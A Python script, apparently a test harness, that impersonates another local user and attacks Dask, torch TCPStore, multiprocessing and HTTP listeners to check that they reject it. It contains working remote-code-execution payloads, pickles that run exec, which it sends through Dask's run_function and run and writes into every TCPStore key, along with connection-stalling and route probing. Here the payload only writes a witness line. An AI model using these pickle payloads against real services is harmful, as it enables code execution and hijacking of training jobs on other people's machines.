"""The attacks of another user, as a program: it drops to that user and attacks what it is told.

    python attacks.py WITNESS UID

Each line of its input is a JSON list of listeners. For each it writes one line: a JSON list of what
gave an answer that no other user should get. Code that it makes others run appends a line to the
file WITNESS. Only Dask's protocol is spoken by Dask, the rest by the standard library: it knows how
the servers talk, not which of our settings are meant to protect them.
"""

import asyncio
import base64
import json
import os
import pickle
import socket
import struct
import sys
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import Any

from distributed import Security
from distributed.comm import connect
from distributed.core import send_recv

PATIENCE_S = 1.0
"""How long an answer is waited for."""

ROUTES = (
    *("/", "/status", "/workers", "/health", "/metrics", "/json/counts.json"),
    *("/json/identity.json", "/json/index.html", "/individual-plots.json", "/statics/css/base.css"),
    *("/info/main/workers.html", "/info/main/logs.html", "/info/logs.html", "/proxy/22/127.0.0.1/"),
    *("/api/v1", "/api/v1/get_workers", "/api/v1/retire_workers", "/api/v1/adaptive_target"),
    *("/eventstream", "/ws", "/debug/dump_traceback", "/handler/ping", "/handler/dump_traceback"),
)
"""What the HTTP servers of Dask and torch may serve."""

SET, GET, LIST_KEYS = 1, 3, 17
"""Requests of torch's TCPStore."""

TARGET = tuple[str, int]
held: list[socket.socket] = []
"""Connections that stay open."""


class Payload:
    """A pickle that runs code where it is read: a line in ``witness``."""

    def __init__(self, witness: str, attack: str) -> None:
        self._code = (
            f"import os; f = open({witness!r}, 'a'); "
            f"f.write(f'{attack} uid {{os.getuid()}} pid {{os.getpid()}}\\n'); f.close()"
        )

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (self._code, {})


def open_connection(target: TARGET) -> socket.socket:
    """A connection to a TCP port or, with port 0, a Unix socket. Raises OSError where refused."""
    address, port = target
    if port:
        return socket.create_connection(target, PATIENCE_S)
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(PATIENCE_S)
    connection.connect("\0" + address[1:] if address.startswith("@") else address)
    return connection


def unix_socket(target: TARGET, witness: str) -> Iterator[str]:
    """Connect to a Unix socket: its place alone should keep others out."""
    if not target[1]:
        held.append(open_connection(target))
        yield "connected"


def stall(target: TARGET, witness: str) -> Iterator[str]:
    """Connections that send nothing, half a TLS greeting, half a request, and garbage."""
    for start in (b"", b"\x16\x03\x01\x02\x00\x01", b"GET / HTTP/1.1\r\n", os.urandom(1 << 16)):
        with suppress(OSError):
            held.append(open_connection(target))
            held[-1].sendall(start)
    yield from ()


def http(target: TARGET, witness: str) -> Iterator[str]:
    """Ask for every route; an answer other than an error is one."""
    if not ask(target, "GET", "/")[0]:
        return  # no HTTP server
    listed: list[str] = []
    with suppress(ValueError):  # Dask lists what it serves, there alone if that is nothing
        listed = json.loads(ask(target, "GET", "/sitemap.json")[1])["paths"]
    for route in {*ROUTES, *listed} - {"/sitemap.json"}:
        for method in ("GET", "POST"):
            code, _ = ask(target, method, route)
            if code and not 400 <= code < 500:
                yield f"{method} {route}: HTTP {code}"


def ask(target: TARGET, method: str, route: str) -> tuple[int, str]:
    """The status and body of an answer; 0 where it is none of HTTP's."""
    with suppress(OSError, ValueError), open_connection(target) as connection:
        body = b'{"workers": []}'
        head = f"{method} {route} HTTP/1.1\r\nHost: {target[0]}\r\nConnection: close\r\n"
        connection.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        with connection.makefile("rb") as stream:
            answer = stream.read(1 << 20)
        version, code, *_ = answer.split(maxsplit=2)
        if version.startswith(b"HTTP/"):
            return int(code), answer.partition(b"\r\n\r\n")[2].decode(errors="replace")
    return 0, ""


def pipe(target: TARGET, witness: str) -> Iterator[str]:
    """A pickle as multiprocessing.connection sends it."""
    message = pickle.dumps(Payload(witness, "pipe"))
    with open_connection(target) as connection:
        connection.sendall(struct.pack("!i", len(message)) + message)
        with suppress(OSError):
            connection.recv(1)
    yield from ()


def store(target: TARGET, witness: str) -> Iterator[str]:
    """Set every key of torch's TCPStore to a pickle, by its protocol."""
    pickled = pickle.dumps(Payload(witness, "store"))
    with open_connection(target) as connection, connection.makefile("rwb") as stream:

        def ask_store(number: int, *texts: bytes) -> None:
            lengths = (struct.pack("<Q", len(text)) + text for text in texts)
            stream.write(bytes([number]) + b"".join(lengths))
            stream.flush()

        def text() -> bytes:
            (length,) = struct.unpack("<Q", stream.read(8))
            return stream.read(min(length, 1 << 16))

        stream.write(b"\0" + struct.pack("<I", 0x3C85F7CE))  # any client says so first
        ask_store(SET, b"intruder", pickled)
        ask_store(GET, b"intruder")
        if text() != pickled:
            return
        yield "torch's store takes values"
        ask_store(LIST_KEYS)
        (count,) = struct.unpack("<Q", stream.read(8))
        for name in [text() for _ in range(min(count, 1000))]:
            # what torchrun reads is base64 of a pickle
            ask_store(SET, name, base64.b64encode(pickled) if b"rendezvous" in name else pickled)


async def dask(
    target: TARGET, scheme: str, operation: str, security: Security, witness: str
) -> list[str]:
    """Run code by Dask's protocol: ``run_function`` of a scheduler, ``run`` of workers, nannies."""
    answers = []
    options = security.get_connection_args("client") if scheme == "tls" else {}
    host = f"[{target[0]}]" if ":" in target[0] else target[0]
    with suppress(Exception):  # whatever keeps us out
        # a server that says nothing would be waited for without an end
        connecting = connect(f"{scheme}://{host}:{target[1]}", PATIENCE_S, **options)
        comm = await asyncio.wait_for(connecting, PATIENCE_S)
        answers.append(f"{scheme} takes connections")
        function = pickle.dumps(Payload(witness, f"dask-{scheme}"))
        call = send_recv(comm, op=operation, function=function, args=(), kwargs={}, wait=True)
        await asyncio.wait_for(call, PATIENCE_S)
        comm.abort()
    return answers


async def attack(targets: list[TARGET], witness: str, security: Security) -> list[str]:
    """Everything, on all ``targets`` at the same time."""

    def one(function: Callable[[TARGET, str], Iterator[str]], target: TARGET) -> list[str]:
        answers: list[str] = []
        with suppress(OSError, struct.error):
            answers.extend(function(target, witness))
        return answers

    functions = (unix_socket, stall, http, pipe, store)
    with ThreadPoolExecutor(len(functions) * len(targets)) as threads:
        loop = asyncio.get_running_loop()
        calls: list[tuple[TARGET, Any]] = [
            (target, loop.run_in_executor(threads, one, function, target))
            for target in targets
            for function in functions
        ]
        calls += [
            (target, dask(target, scheme, operation, security, witness))
            for target in targets
            if target[1]
            for scheme in ("tcp", "tls")
            for operation in ("run_function", "run")
        ]
        results = await asyncio.gather(*(call for _, call in calls))
    return [
        f"{f'{address} {port}' if port else address}: {answer}"
        for ((address, port), _), answers in zip(calls, results, strict=True)
        for answer in dict.fromkeys(answers)
    ]


def main(witness: str, user: int) -> None:
    """Attack what each line of standard input names, until it ends."""
    security = Security.temporary()  # imports what it needs while that can be read
    os.setgroups([])
    os.setresgid(user, user, user)
    os.setresuid(user, user, user)
    for line in sys.stdin:
        targets = [(target["address"], target["port"]) for target in json.loads(line)]
        print(json.dumps(asyncio.run(attack(targets, witness, security))), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
